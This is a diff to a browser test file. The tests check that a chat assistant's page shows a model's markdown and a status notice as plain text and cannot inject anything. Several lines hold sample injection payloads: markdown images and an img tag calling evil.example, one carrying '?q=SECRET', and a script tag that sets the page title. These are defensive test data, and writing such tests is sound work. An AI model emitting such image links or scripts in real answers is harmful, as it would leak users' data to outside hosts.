@@ -653,7 +653,7 @@ LAID_OUT = (
 )
 
 
-PARTIAL = {"support": "partial", "notice": "One sentence cites no abstract <b>bold?</b>"}
+PARTIAL = {"support": "partial", "notice": "One sentence cites no abstract <b>bold?</b> ![n](https://evil.example/n.png)"}
 
 
 class ModelAssistant(ScriptedAssistant):
@@ -683,7 +683,10 @@ def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(brows
         expect(uncited).to_have_attribute("title", re.compile("cites no source"))
         expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
         expect(bubble).to_contain_text("<script>document.title='owned'</script>")
-        expect(page.locator("#aa-chat")).to_contain_text("One sentence cites no abstract <b>bold?</b>")  # the notice, as text
+        said = "One sentence cites no abstract <b>bold?</b> ![n](https://evil.example/n.png)"  # as text, here and below
+        expect(page.locator("#aa-chat")).to_contain_text(said)
+        expect(page.locator("#aa-status")).to_contain_text(f"support partial · openai · settings scripted · {said}")
+        assert page.locator("#aa-status b, #aa-status strong, #aa-status img").count() == 0
         shot(page, "model-markdown.png")
         assert page.locator("#aa-chat img, #aa-chat iframe, #aa-chat script, #aa-chat .x").count() == 0
         chat_links = page.locator("#aa-chat a:not(.aa-copy)").evaluate_all("as => as.map(a => a.getAttribute('href'))")
@@ -698,7 +701,7 @@ def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(brows
         assert copied.startswith(LAID_OUT.strip()), copied[:200]
         assert copied.endswith("\n\nReferences:\n[1] Stripes <img src=https://evil.example/t.png>\n[2] Trap"), copied[-200:]
         # the caveat shown under the answer goes with it, as text
-        assert "\n\nSupport: partial\nNote: One sentence cites no abstract <b>bold?</b>\n\nReferences:" in copied, copied
+        assert f"\n\nSupport: partial\nNote: {said}\n\nReferences:" in copied, copied
         assert page.url.endswith("/"), page.url  # the link's "#" was not followed
         assert page.title() == "Abstract Assistant"
         assert outside == [], outside
